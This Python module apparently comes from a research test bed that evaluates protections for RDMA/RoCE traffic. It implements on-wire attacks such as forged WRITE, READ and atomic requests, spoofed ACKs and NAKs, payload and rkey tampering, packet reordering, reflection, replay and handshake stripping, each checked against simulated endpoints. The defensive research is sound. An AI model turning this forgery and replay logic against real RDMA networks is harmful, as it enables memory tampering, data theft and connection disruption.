# SPDX-License-Identifier: GPL-2.0
"""The attacks by an attacker on the wire without a key, one function each.

Each gets a Bed with a fresh connection and returns its success in a few words, or None. It may
use everything that the wire shows: numbers, lengths, and all bytes that are not encrypted.
"""

import struct
from dataclasses import dataclass

import pyverbs.enums as e

from victims import ANSWER_AT, SECRET, SECRET_AT, WORD_AT
from wire import Wire

WRITE_ONLY, READ_REQ, ACK, FETCH_ADD = 0x0A, 0x0C, 0x11, 0x14
READ_RESPONSES = range(0x0D, 0x11)
UC_WRITE_ONLY = 0x2A
HELLO = 0xC0
ACKED, NAK_ACCESS = 0x1F, 0x62
FORGED = b"forged: what the attacker wants."
GOOD = b"what a has sent to b, byte by by"
NEW = b"what b has had there since then."
FROM_A, FROM_B = 0, 1


@dataclass(frozen=True)
class Attack:
    """A row of the table. `limits`: protections under which success is documented, and why."""

    run: object
    source: str
    limits: dict

    @property
    def name(self):
        return self.run.__name__

    @property
    def title(self):
        return self.run.__doc__.split("\n")[0].rstrip(".")


ATTACKS = []


def attack(source, **limits):
    def enter(run):
        ATTACKS.append(Attack(run, source, limits))
        return run
    return enter


def reth(address, key, length):
    return struct.pack("!QII", address, key, length)


def reth_of(shot):
    return struct.unpack("!QII", shot.header.ext[:16])


def aeth(syndrome, msn=1):
    return struct.pack("!I", syndrome << 24 | msn)


def watched(bed):
    """Do a WRITE and a READ; return a's last requests and b's last answers, two each."""
    assert bed.write(GOOD) and bed.read() is not None
    wire = bed.wire.seen
    return (next(s for side, s in reversed(wire) if side == FROM_A and s.opcode == WRITE_ONLY),
            next(s for side, s in reversed(wire) if side == FROM_A and s.opcode == READ_REQ),
            next(s for side, s in reversed(wire) if side == FROM_B and s.opcode == ACK),
            next(s for side, s in reversed(wire) if side == FROM_B and s.opcode in READ_RESPONSES))


def answers(bed, opcodes, since):
    """Return the packets with these opcodes that b has sent since index `since`."""
    return [s for side, s in bed.wire.seen[since:] if side == FROM_B and s.opcode in opcodes]


def once(bed, side, picks, change):
    """Change the first packet from that side that `picks` selects; pass on the others."""
    changed = []

    def tap(came_from, shot):
        if changed or came_from != side or not picks(shot):
            return None
        changed.append(shot)
        return change(shot)
    bed.wire.tap = tap
    return changed


def swallow(bed, side, picks):
    """Withhold all packets from that side that `picks` selects; return their list."""
    kept = []

    def tap(came_from, shot):
        if came_from != side or not picks(shot):
            return None
        kept.append(shot)
        return []
    bed.wire.tap = tap
    return kept


def answer_for_b(bed, opcode, ask, model, **changes):
    """Let a ask, withhold the request from b, and answer it with forgeries of the model. a
    retransmits until the tap is removed."""
    held = swallow(bed, FROM_A, lambda s: s.opcode == opcode)
    ask()
    bed.wire.until(lambda: held)
    bed.wire.put(Wire.TO_A, [forged.but(psn=held[0].psn, **changes)
                             for forged in model.disguises()])


@attack("ReDMArk 4; paper 3.1", header="encrypts nothing", packet="encrypts nothing")
def eavesdrop(bed):
    """Read on the wire what is written and read"""
    bed.write(GOOD)
    bed.read()
    seen = b"".join(shot.payload for _, shot in bed.wire.seen)
    return "both are in the frames" if GOOD in seen and SECRET in seen else None


@attack("ReDMArk 5.1")
def forge_write(bed):
    """Write into b's memory in a's name"""
    write, read, _, _ = watched(bed)
    bed.wire.put(Wire.TO_B, [forged.but(psn=read.psn + 1, payload=FORGED)
                             for forged in write.disguises()])
    bed.wire.rest()
    return "b's memory holds it" if bed.memory(len(FORGED)) == FORGED else None


@attack("ReDMArk 5.2")
def forge_read(bed):
    """Make b send its memory, in a's name"""
    _, read, _, _ = watched(bed)
    since = len(bed.wire.seen)
    bed.wire.put(Wire.TO_B, [forged.but(psn=read.psn + 1) for forged in read.disguises()])
    bed.wire.rest()
    return "b has answered" if answers(bed, READ_RESPONSES, since) else None


@attack("ReDMArk 5.3; RFC 5042 6.2.4")
def forge_atomic(bed):
    """Take a lock in b's memory, in a's name"""
    write, read, _, _ = watched(bed)
    address, key, _ = reth_of(write)
    ext = struct.pack("!QIQQ", address + WORD_AT, key, 0x4141414141414141, 0)
    before = bed.memory(8, WORD_AT)
    bed.wire.put(Wire.TO_B, [forged.but(opcode=FETCH_ADD, psn=read.psn + 1, ext=ext, payload=b"")
                             for forged in write.disguises()])
    bed.wire.rest()
    return "the word has changed" if bed.memory(8, WORD_AT) != before else None


@attack("ReDMArk 5.4; NeVerMore 4.2; IBA 9.7.4.1.1")
def kill_by_a_bad_key(bed):
    """End the connection by a request that b must reject"""
    write, read, _, _ = watched(bed)
    address, key, length = reth_of(write)
    ext = reth(address, key ^ 0x5A5A5A00, length)
    bed.wire.put(Wire.TO_B, [forged.but(psn=read.psn + 1, ext=ext)
                             for forged in write.disguises()])
    bed.wire.rest()
    return None if bed.b.alive() else "b's QP is in error"


@attack("NeVerMore 4.2")
def forge_nak(bed):
    """End the connection by a NAK, in b's name"""
    _, _, ack, _ = watched(bed)
    answer_for_b(bed, WRITE_ONLY, lambda: bed.write(GOOD, wait=False), ack, ext=aeth(NAK_ACCESS))
    bed.wire.rest()
    bed.wire.tap = None
    return "a's QP is in error" if bed.completed() != [0] else None


@attack("paper 3.2 (responses)")
def forge_acknowledgement(bed):
    """Withhold a request, and acknowledge it to a"""
    _, _, ack, _ = watched(bed)
    answer_for_b(bed, WRITE_ONLY, lambda: bed.write(NEW, wait=False), ack, ext=aeth(ACKED, 3))
    done = bed.completed(limit=0.5) == [0]
    bed.wire.tap = None
    if done:
        return "a believes it" if bed.memory(len(NEW)) != NEW else None
    bed.completed()
    return None


@attack("paper 3.2 (responses)")
def forge_what_is_read(bed):
    """Answer a READ in b's place"""
    _, _, _, answer = watched(bed)
    answer_for_b(bed, READ_REQ, lambda: bed.read(wait=False), answer, payload=FORGED,
                 ext=aeth(ACKED, 3))
    done = bed.completed(limit=0.5) == [0]
    bed.wire.tap = None
    if not done:
        bed.completed()
    return "a took it" if bed.a.mr.read(len(FORGED), ANSWER_AT) == FORGED else None


@attack("paper 3.3; NVMe-oF capsule spoofing", header="does not cover the payload")
def alter_what_is_written(bed):
    """Change the payload of a WRITE, and repair all checksums"""
    changed = once(bed, FROM_A, lambda s: s.opcode == WRITE_ONLY,
                   lambda s: [s.but(payload=FORGED)])
    bed.write(GOOD)
    assert changed
    return "b's memory holds it" if bed.memory(len(FORGED)) == FORGED else None


@attack("paper 3.3", header="does not cover the payload")
def alter_what_is_read(bed):
    """Change the payload of a READ response"""
    changed = once(bed, FROM_B, lambda s: s.opcode in READ_RESPONSES,
                   lambda s: [s.but(payload=FORGED[:len(s.payload)])])
    got = bed.read(32)
    assert changed
    return "a took it" if got == FORGED else None


@attack("protocol.md 4 (RETH)")
def move_a_write(bed):
    """Change the address of a WRITE"""
    def moved(shot):
        address, key, length = reth_of(shot)
        return [shot.but(ext=reth(address + 1024, key, length))]
    changed = once(bed, FROM_A, lambda s: s.opcode == WRITE_ONLY, moved)
    bed.write(GOOD)
    assert changed
    return "it went elsewhere" if bed.memory(len(GOOD), 1024) == GOOD else None


@attack("protocol.md 4 (RETH)")
def swap_the_key(bed):
    """Redirect a WRITE to another region of b, by its rkey"""
    _, other = bed.another_pair()

    def elsewhere(shot):
        return [shot.but(ext=reth(other.mr.buf, other.mr.rkey, reth_of(shot)[2]))]
    changed = once(bed, FROM_A, lambda s: s.opcode == WRITE_ONLY, elsewhere)
    bed.write(GOOD)
    assert changed
    return "that region holds it" if bed.memory(len(GOOD), end=other) == GOOD else None


@attack("protocol.md 4 (extension headers)")
def alter_immediate_data(bed):
    """Change the immediate data of a SEND"""
    bed.b.expect(1)
    changed = once(bed, FROM_A, lambda s: s.request and len(s.header.ext) == 4,
                   lambda s: [s.but(ext=b"\x66\x66\x66\x66")])
    bed.send(GOOD, imm=0x01020304)
    assert changed
    got = bed.received(bed.b)
    return "b was told something else" if got and got[0][2] == 0x66666666 else None


@attack("protocol.md 4 (UDP length)")
def shorten_a_message(bed):
    """Truncate a SEND"""
    bed.b.expect(1)
    changed = once(bed, FROM_A, lambda s: s.request and s.payload,
                   lambda s: [s.but(payload=s.payload[:8])])
    bed.send(GOOD)
    assert changed
    got = bed.received(bed.b)
    return f"b took {got[0][0]} bytes of {len(GOOD)}" if got and got[0][0] < len(GOOD) else None


@attack("protocol.md 4 (BTH)")
def turn_a_write_into_a_read(bed):
    """Turn a WRITE into a READ of the same memory"""
    since = len(bed.wire.seen)
    changed = once(bed, FROM_A, lambda s: s.opcode == WRITE_ONLY,
                   lambda s: [s.but(opcode=READ_REQ, payload=b"")])
    bed.write(GOOD, at=SECRET_AT, wait=False)
    bed.wire.rest(0.3)
    bed.completed()
    assert changed
    return "b has sent it" if answers(bed, READ_RESPONSES, since) else None


@attack("protocol.md 5 (PSN64)")
def change_the_order(bed):
    """Swap two messages"""
    bed.b.expect(2)
    kept = []

    def tap(side, shot):
        if side != FROM_A or not shot.request or len(kept) == 2:
            return None
        if shot.psn not in [s.psn for s in kept]:
            kept.append(shot)
        if len(kept) < 2:
            return []
        one, two = kept
        return [two.but(psn=one.psn, ackreq=one.header.ackreq),
                one.but(psn=two.psn, ackreq=two.header.ackreq)]
    bed.wire.tap = tap
    bed.send(GOOD, at=0, wait=False)
    bed.send(NEW, at=64, wait=False)
    bed.completed(2)
    assert len(kept) == 2
    got = [row[1] for row in bed.received(bed.b, 2)]
    return "b got the second first" if got == [NEW, GOOD] else None


@attack("protocol.md 6 (K_AB)")
def lead_into_another_connection(bed):
    """Redirect a message to another connection of the same ends"""
    _, other = bed.another_pair()
    bed.b.expect(1)
    other.expect(1)
    changed = once(bed, FROM_A, lambda s: s.request,
                   lambda s: [s.but(dqpn=other.qp.qp_num)])
    bed.send(GOOD)
    assert changed
    return "it came out there" if bed.received(other) else None


@attack("protocol.md 6 (direction)")
def reflect(bed):
    """Return a's own message to it, as b's"""
    bed.a.expect(1)
    bed.b.expect(1)

    def mirror(shot):
        bed.wire.put(Wire.TO_A, [shot.back().but(dqpn=bed.a.qp.qp_num)])
        return []
    changed = once(bed, FROM_A, lambda s: s.request, mirror)
    bed.send(GOOD)
    assert changed
    return "a took it for b's" if bed.received(bed.a) else None


@attack("protocol.md 13 (PRF family)", prf="keeps no record of what it has seen inside the PSN window")
def repeat_a_read(bed):
    """Replay a READ request after b's memory has changed"""
    _, read, _, _ = watched(bed)
    bed.b.mr.write(NEW, len(NEW), SECRET_AT)
    since = len(bed.wire.seen)
    bed.wire.put(Wire.TO_B, [read])
    bed.wire.rest()
    return "b sends what is there now" if answers(bed, READ_RESPONSES, since) else None


@attack("protocol.md 13 (PRF family); IBA 9.8.2.2")
def repeat_an_unreliable_write(bed):
    """Replay a WRITE of an unreliable connection (UC)"""
    pair = bed.another_pair(e.IBV_QPT_UC)
    bed.write(GOOD, pair=pair)
    bed.wire.until(lambda: bed.memory(len(GOOD), end=pair[1]) == GOOD)
    write = next(s for side, s in reversed(bed.wire.seen) if s.opcode == UC_WRITE_ONLY)
    pair[1].mr.write(NEW, len(NEW), 0)
    bed.wire.put(Wire.TO_B, [write])
    bed.wire.rest()
    return "it was done again" if bed.memory(len(GOOD), end=pair[1]) == GOOD else None


@attack("protocol.md 7 (freshness)")
def repeat_a_session(bed):
    """Replay an old connection to a new one with the same numbers"""
    bed.write(GOOD)
    old = [shot for side, shot in bed.wire.seen if side == FROM_A]
    bed.again()
    bed.b.mr.write(NEW, len(NEW), 0)
    bed.wire.put(Wire.TO_B, old)
    bed.wire.rest()
    return "b's memory holds the old bytes" if bed.memory(len(GOOD)) == GOOD else None


@attack("protocol.md 7")
def prevent_the_handshake(bed):
    """Drop the handshake, so that both ends talk in the clear"""
    kept = swallow(bed, FROM_A, lambda s: s.opcode >= HELLO)
    bed.write(GOOD, wait=False)
    bed.wire.rest(0.3)
    clear = [s for side, s in bed.wire.seen if side == FROM_A and s.request and not s.header.code]
    bed.wire.tap = None
    bed.completed()
    assert kept or not bed.protection
    return "they do" if clear else None


@attack("ReDMArk 5.4", header="the wire is the attacker's", packet="the wire is the attacker's",
        aead="the wire is the attacker's", opaque="the wire is the attacker's")
def cut_the_wire(bed):
    """Drop all packets"""
    bed.write(GOOD)
    bed.wire.tap = lambda side, shot: []
    bed.write(NEW, wait=False)
    return "the connection ends" if bed.completed(limit=20) not in ([0], []) else None
